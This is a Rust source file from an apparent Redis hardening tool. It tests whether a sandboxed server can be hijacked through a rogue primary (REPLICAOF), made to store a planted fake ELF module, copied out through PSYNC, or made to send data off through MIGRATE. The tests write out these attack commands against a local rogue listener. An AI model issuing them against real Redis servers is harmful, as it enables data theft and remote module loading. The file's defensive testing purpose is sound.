//! Replication turned round: a rogue primary, a rogue replica, data carried off.

use super::{Reason, control};
use crate::control::Severity::{Critical, High};
use crate::prove::arena::Arena;
use crate::prove::caller::{Caller, Who};
use crate::prove::judgement::{Layer, Stop};
use crate::prove::rogue::Rogue;
use crate::prove::{Attempt, How, Undo};
use crate::redis::fields;
use std::time::{Duration, Instant};

pub const ATTEMPTS: &[Attempt] = &[
    Attempt {
        control: control(Reason {
            id: "prove.rogue-primary",
            title: "The server does not follow a rogue primary",
            severity: Critical,
            why: "REPLICAOF replaces all data by the attacker's, and is the door of the module chain (P2PInfect, HeadCrab, SkidMap).",
            references: &[
                "https://2018.zeronights.ru/wp-content/uploads/materials/15-redis-post-exploitation.pdf",
                "https://attack.mitre.org/techniques/T1105/",
            ],
            by_hand: "take @admin from every application, and name peers under [firewall]",
        }),
        how: How::Each(Who::EverybodyAlone, rogue_primary),
        undo: Undo::Never,
    },
    Attempt {
        control: control(Reason {
            id: "prove.rogue-payload",
            title: "A rogue primary does not leave a program among the data",
            severity: Critical,
            why: "What a primary sends as a data set lies on the disk byte for byte, whatever it is: a module to be loaded next.",
            references: &[
                "https://2018.zeronights.ru/wp-content/uploads/materials/15-redis-post-exploitation.pdf",
                "Redis replication.c, readSyncBulkPayload",
            ],
            by_hand: "take @admin from every application, and name peers under [firewall]",
        }),
        how: How::Each(Who::EverybodyAlone, rogue_payload),
        undo: Undo::Never,
    },
    Attempt {
        control: control(Reason {
            id: "prove.rogue-replica",
            title: "An intruder does not copy everything as a replica",
            severity: Critical,
            why: "PSYNC hands over all keys of all databases in one stream.",
            references: &[
                "Redis replication.md",
                "https://attack.mitre.org/techniques/T1005/",
            ],
            by_hand: "take @admin and @dangerous from every application (role = \"application\")",
        }),
        how: How::Each(Who::IntrudersButCopiers, rogue_replica),
        undo: Undo::Never,
    },
    Attempt {
        control: control(Reason {
            id: "prove.migrate",
            title: "The server does not carry its data off to another",
            severity: High,
            why: "MIGRATE connects from the inside to wherever it is told, with the data and past every inbound filter.",
            references: &[
                "Redis migrate.md",
                "https://attack.mitre.org/techniques/T1048/",
            ],
            by_hand: "take @dangerous from every application, and name peers under [firewall]",
        }),
        how: How::Each(Who::EverybodyAlone, migrate),
        undo: Undo::Never,
    },
];

fn rogue_primary(caller: &mut Caller) -> Result<String, Stop> {
    let rogue = Rogue::listen(caller.arena()?)?;
    caller.ask(&["REPLICAOF", &Rogue::address(), &rogue.port.to_string()])?;
    match rogue.is_visited() {
        true => Ok("REPLICAOF made it a replica of another host's".to_owned()),
        false => Err(why_not_there(caller.arena()?)),
    }
}

fn rogue_payload(caller: &mut Caller) -> Result<String, Stop> {
    const PAYLOAD: &[u8] = b"\x7fELF a module that redis-harden prove made up";
    let rogue = Rogue::listen(caller.arena()?)?;
    caller.ask(&["REPLICAOF", &Rogue::address(), &rogue.port.to_string()])?;
    if !rogue.push(PAYLOAD) {
        return Err(why_not_there(caller.arena()?));
    }
    let arena = caller.arena()?;
    let file = arena.blueprint.stage.settings.data_dir.join("dump.rdb");
    let inside = &arena.twin.files;
    let until = Instant::now() + Duration::from_secs(2);
    while Instant::now() < until {
        let found = inside.read_untrusted_below(&file, 1 << 20);
        if matches!(found, Ok(Some(bytes)) if bytes == PAYLOAD) {
            return Ok(format!("another host's bytes are {}", file.display()));
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Err(Stop::Trouble(
        "the payload was sent and is not there".to_owned(),
    ))
}

/// It says in its log only why it could not connect.
fn why_not_there(arena: &Arena) -> Stop {
    match is_filtered(arena) {
        Ok(false) => {}
        Ok(true) => {
            let words = "REPLICAOF is accepted, and no connection leaves the host";
            return Stop::Refused(Layer::Network, words.to_owned());
        }
        Err(stop) => return stop,
    }
    let status = arena.witness().and_then(|mut witness| {
        let info = witness.text(&["INFO", "replication"]);
        info.map_err(|e| e.to_string())
    });
    let status = match status {
        Ok(info) => fields(&info).get("master_link_status").cloned(),
        Err(why) => return Stop::Trouble(why),
    };
    match (status.as_deref(), arena.is_contained()) {
        (Some("down"), true) => Stop::Refused(
            Layer::Sandbox,
            "REPLICAOF is accepted, and no connection leaves".to_owned(),
        ),
        _ => Stop::Trouble("REPLICAOF is accepted, and nobody came".to_owned()),
    }
}

fn is_filtered(arena: &Arena) -> Result<bool, Stop> {
    match arena.blueprint.filter {
        None => Ok(false),
        Some(_) => arena.is_filtered_outwards().map_err(Stop::Trouble),
    }
}

fn rogue_replica(caller: &mut Caller) -> Result<String, Stop> {
    let said = caller.text(&["PSYNC", "?", "-1"])?;
    match said.starts_with("FULLRESYNC") {
        true => Ok("PSYNC hands over all data".to_owned()),
        false => Err(Stop::Trouble(format!("PSYNC is answered by {said}"))),
    }
}

fn migrate(caller: &mut Caller) -> Result<String, Stop> {
    caller.arena()?.serve_keys().map_err(Stop::Trouble)?;
    let rogue = Rogue::listen(caller.arena()?)?;
    let key = caller.arena()?.witness().and_then(|mut witness| {
        let set = witness.ask(&["SET", "prove", "1"]);
        set.map_err(|e| e.to_string())
    });
    key.map_err(Stop::Trouble)?;
    let port = rogue.port.to_string();
    // The rogue says nothing, so that its end is a time-out where it gets that far.
    let said = caller.ask(&[
        "MIGRATE",
        &Rogue::address(),
        &port,
        "prove",
        "0",
        "400",
        "COPY",
    ]);
    if rogue.is_visited() {
        return Ok("MIGRATE connects to another host's server".to_owned());
    }
    match said {
        Err(Stop::Trouble(words))
            if words.starts_with("IOERR") && is_filtered(caller.arena()?)? =>
        {
            Err(Stop::Refused(Layer::Network, words))
        }
        Err(Stop::Trouble(words))
            if caller.arena()?.is_contained() && words.starts_with("IOERR") =>
        {
            Err(Stop::Refused(Layer::Sandbox, words))
        }
        Err(stop) => Err(stop),
        Ok(_) => Err(Stop::Trouble(
            "MIGRATE is accepted, and nobody came".to_owned(),
        )),
    }
}
